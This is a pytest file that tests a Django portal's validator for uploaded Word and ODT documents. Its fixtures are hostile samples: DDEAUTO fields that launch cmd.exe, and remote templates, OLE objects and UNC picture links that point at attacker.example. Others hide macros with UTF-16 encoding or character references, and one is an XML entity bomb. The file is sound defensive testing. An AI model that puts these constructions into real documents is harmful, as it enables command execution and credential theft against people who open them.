"""Office document content checks (portal/core/uploads/office.py)."""

import pytest
from django.core.exceptions import ValidationError

from portal.core.uploads import DOCX, ODT, check_document
from tests.portal import documents

MACROS = "This document contains macros or scripts"


@pytest.mark.parametrize(
    "content",
    [
        documents.docm(),
        documents.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                          "word/vbaProject.bin": b"VBA"}),
        documents.zipped({"[Content_Types].xml": b"<Types><Default Extension='bin' ContentType="
                          b"'application/vnd.ms-office.vbaProject'/></Types>",
                          "word/document.xml": b"<w:document/>", "word/macros.bin": b"VBA"}),
        documents.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                          "word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        documents.odt({"Basic/Standard/Module1.xml": b"<script:module>Shell</script:module>"}),
        documents.odt({"Scripts/python/run.py": b"import os"}),
        documents.odt(content=b'<office:document-content><office:event-listeners>'
                      b'<script:event-listener script:event-name="dom:load" xlink:href='
                      b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'),
    ],
)  # fmt: skip
def test_documents_with_macros_are_refused(content):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content, "cv.docx"))
    assert MACROS in error.value.messages[0]


UTF16_CONTENT_TYPES = documents.CONTENT_TYPES.replace(b'"UTF-8"', b'"UTF-16"').replace(
    b"</Types>",
    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
)
VBA_RELATIONSHIP = documents.relationships(
    b'<Relationship Id="rV" Type="http://schemas.microsoft.com/office/2006/relationships/'
    b'vba&#80;roject" Target="macros.bin"/>'
)
SETTINGS = (
    b'<?xml version="1.0"?><w:settings %s xmlns:r="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships"><w:attachedTemplate r:id="rT"/></w:settings>' % documents.W
)


def remote(kind: bytes, target: bytes) -> bytes:
    return documents.relationships(
        b'<Relationship Id="rT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/%s" Target="%s" TargetMode="External"/>' % (kind, target)
    )


def field(instruction: bytes) -> bytes:
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="pre'
        b'serve">%s</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        % instruction
    )


LINKED = "This document fetches content from elsewhere or runs commands"


@pytest.mark.parametrize(
    "content, message",
    [
        # Macro content types written in UTF-16 or with character references.
        (documents.zipped({"[Content_Types].xml": UTF16_CONTENT_TYPES.decode().encode("utf-16"),
                           "word/document.xml": b"<w:document/>", "word/macros.bin": b"VBA"}),
         MACROS),
        (documents.zipped({
            "[Content_Types].xml": documents.CONTENT_TYPES.replace(
                b"document.main+xml", b"document.macro&#69;nabled.main+xml"),
            "word/document.xml": b"<w:document/>"}), MACROS),
        # A vbaProject relationship, whatever the part is called.
        (documents.docx(parts={"word/_rels/document.xml.rels": VBA_RELATIONSHIP,
                               "word/macros.bin": b"\xd0\xcf\x11\xe0"}), MACROS),
        # Templates, objects, frames and sub-documents fetched from elsewhere on opening.
        (documents.docx(parts={"word/settings.xml": SETTINGS,
                               "word/_rels/settings.xml.rels": remote(
            b"attachedTemplate", b"http://attacker.example/t.dotm")}), LINKED),
        (documents.docx(parts={"word/_rels/settings.xml.rels": remote(
            b"attachedTemplate", b"\\\\attacker.example\\share\\t.dotm")}), LINKED),
        (documents.docx(parts={"word/_rels/document.xml.rels": remote(
            b"oleObject", b"ftp://attacker.example/o.bin")}), LINKED),
        (documents.docx(parts={"word/_rels/webSettings.xml.rels": remote(
            b"frame", b"HTTPS://attacker.example/")}), LINKED),
        (documents.docx(parts={"word/_rels/document.xml.rels": remote(
            b"subDocument", b"file://attacker.example/share/s.docx")}), LINKED),
        # Fields that run a program or read a file, in the body, a header or a footer.
        (documents.docx(field(b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
         LINKED),
        (documents.docx(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                        b'DD</w:instrText></w:r><w:r><w:instrText>E cmd "/c calc"</w:instrText>'
                        b'</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), LINKED),
        (documents.docx(parts={"word/header1.xml": b'<w:hdr %s><w:p><w:fldSimple w:instr="INCLUDE'
                        b'TEXT C:\\\\secret.txt"/></w:p></w:hdr>' % documents.W}), LINKED),
        (documents.docx(parts={"word/footer1.xml": b"<w:ftr %s>%s</w:ftr>" % (documents.W, field(
            b'INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d'))}), LINKED),
        (documents.docx(field(b'INCLUDEPICTURE "http://attacker.example/a.png"')), LINKED),
        # Marks in odd places are still read, not a server error.
        (documents.docx(b'<w:p><w:r><w:instrText><w:fldChar w:fldCharType="end"/>DDE cmd'
                        b'</w:instrText></w:r></w:p>'), LINKED),
        # Entity declarations (XML bombs) are not read at all.
        (documents.docx(parts={"word/_rels/document.xml.rels": b'<!DOCTYPE r [<!ENTITY a "aa">]>'
                        b"<Relationships>&a;</Relationships>"}), "seems damaged"),
        # An ODT event bound to a macro, in UTF-16 and with a renamed prefix.
        (documents.odt(content='<?xml version="1.0" encoding="UTF-16"?><office:document-content '
                       'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:s='
                       '"urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://'
                       'www.w3.org/1999/xlink"><s:event-listener xlink:href="vnd.sun.star.scrip'
                       't:Standard.Module1.Main?language=Basic"/></office:document-content>'
                       .encode("utf-16")), MACROS),
    ],
)  # fmt: skip
def test_office_documents_with_hidden_macros_or_remote_content_are_refused(content, message):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content, "cv.docx"))
    assert message in error.value.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        # Word's own local template, page numbers, a linked local picture, a hyperlink.
        documents.docx(
            field(b" PAGE \\* MERGEFORMAT ") + field(b'INCLUDEPICTURE "C:\\\\photos\\\\me.png"'),
            parts={
                "word/settings.xml": SETTINGS,
                "word/_rels/settings.xml.rels": remote(
                    b"attachedTemplate",
                    b"file:///C:/Users/amina/AppData/Roaming/Microsoft/Templates/Normal.dotm"),
                "word/_rels/document.xml.rels": remote(b"hyperlink", b"https://example.org/a"),
            },
        ),
        documents.docx(parts={"word/footer1.xml": b'<w:ftr %s><w:p><w:fldSimple w:instr=" NUM'
                       b'PAGES "/></w:p></w:ftr>' % documents.W}),
    ],
)  # fmt: skip
def test_ordinary_word_documents_still_pass(content):
    assert check_document(documents.upload(content, "cv.docx")) == DOCX


def test_an_ordinary_libreoffice_document_still_passes():
    # LibreOffice writes Configurations2/accelerator/current.xml empty; links are fine.
    content = documents.odt(
        {"Configurations2/accelerator/current.xml": b"", "styles.xml": b"<styles/>"},
        content=b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
        b'"urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:'
        b'opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><text:a '
        b'xlink:href="https://example.org/amina">Amina</text:a></office:document-content>',
    )
    assert check_document(documents.upload(content, "cv.odt")) == ODT


def test_a_remote_template_is_refused_in_the_visitors_language():
    from django.utils import translation

    content = documents.docx(
        parts={"word/_rels/settings.xml.rels": remote(b"attachedTemplate", b"https://x.example/t")}
    )
    with translation.override("fr"):
        with pytest.raises(ValidationError) as error:
            check_document(documents.upload(content, "cv.docx"))
        assert "Ce document va chercher du contenu ailleurs" in error.value.messages[0]
